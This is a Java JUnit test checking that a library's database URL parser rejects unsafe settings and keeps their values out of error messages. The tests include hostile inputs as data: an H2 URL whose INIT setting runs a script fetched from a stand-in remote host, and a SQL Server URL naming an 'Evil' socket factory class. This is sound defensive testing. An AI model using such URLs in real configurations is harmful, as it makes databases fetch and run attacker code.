package io.fcn.persistence.internal.database;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;

import io.fcn.persistence.internal.engine.H2Settings;

/** A URL is untrusted configuration: what {@link DatabaseUrl#parse} refuses, naming the setting, never its value. */
class DatabaseUrlTrustTest {

    @Test
    void anH2UrlCarriesOnlyTheAllowedSettingsAndInitOnlyAsTheLibrarysOwn() {
        IllegalArgumentException init = assertThrows(IllegalArgumentException.class, () -> DatabaseUrl.parse(
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://example.invalid/x.sql'", null, null));
        assertTrue(init.getMessage().contains("sets INIT to a value the library does not allow"), init.getMessage());
        assertFalse(init.getMessage().contains("RUNSCRIPT"), init.getMessage());
        IllegalArgumentException other = assertThrows(IllegalArgumentException.class,
                () -> DatabaseUrl.parse("jdbc:h2:tcp://localhost/x;init_x=1;Trace_Max_File_Size=9", null, null));
        assertTrue(other.getMessage().startsWith("the H2 URL sets INIT_X, TRACE_MAX_FILE_SIZE, which"),
                other.getMessage());
        String own = "jdbc:h2:tcp://localhost/x" + H2Settings.URL_SUFFIX + ";PASSWORD=a;CIPHER=AES";
        assertEquals(own, DatabaseUrl.parse(own, null, null).jdbcUrl());
        assertEquals("jdbc:h2:mem:x", DatabaseUrl.parse("jdbc:h2:mem:x", null, null).jdbcUrl());
    }

    @Test
    void classLoadingSqlServerPropertiesNeedTheExplicitAllowance() {
        String url = "jdbc:sqlserver://db:1433;encrypt=true;socketFactoryClass={com.example.Evil};"
                + "trustManagerClass=com.example.Trust";
        IllegalArgumentException refused = assertThrows(IllegalArgumentException.class,
                () -> DatabaseUrl.parse(url, "sa", "pw"));
        assertTrue(refused.getMessage().contains("socketfactoryclass, trustmanagerclass"), refused.getMessage());
        assertFalse(refused.getMessage().contains("com.example"), refused.getMessage());
        assertEquals(url, DatabaseUrl.parse(url, "sa", "pw", true).jdbcUrl());
        assertThrows(IllegalArgumentException.class, () -> DatabaseUrl.parse(" ", null, null));
    }
}
